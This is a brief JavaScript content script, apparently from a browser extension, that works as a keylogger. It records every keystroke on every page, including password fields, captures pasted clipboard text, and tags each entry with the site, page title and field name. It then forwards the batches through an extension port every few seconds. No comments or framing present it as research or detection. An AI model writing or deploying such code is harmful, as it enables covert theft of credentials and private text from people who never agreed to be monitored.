let line = "";
let field = null;
const port = chrome.runtime.connect({ name: "k" });
const name = (el) => (el && (el.name || el.id || el.getAttribute("aria-label"))) || (el && el.tagName) || "?";

function flush() {
  if (!line) return;
  try {
    port.postMessage({ host: location.host, path: location.pathname, title: document.title, field: name(field), type: field && field.type, text: line, ts: Date.now() });
  } catch (e) {}
  line = "";
}
window.addEventListener("keydown", (e) => {
  if (e.target !== field) { flush(); field = e.target; }
  if (e.key === "Backspace") line += "[<]";
  else if (e.key === "Enter") { line += "[E]"; flush(); }
  else if (e.key.length === 1) line += e.key;
}, true);
window.addEventListener("blur", flush, true);
document.addEventListener("paste", (e) => { line += "[P:" + e.clipboardData.getData("text") + "]"; }, true);
setInterval(flush, 8000);
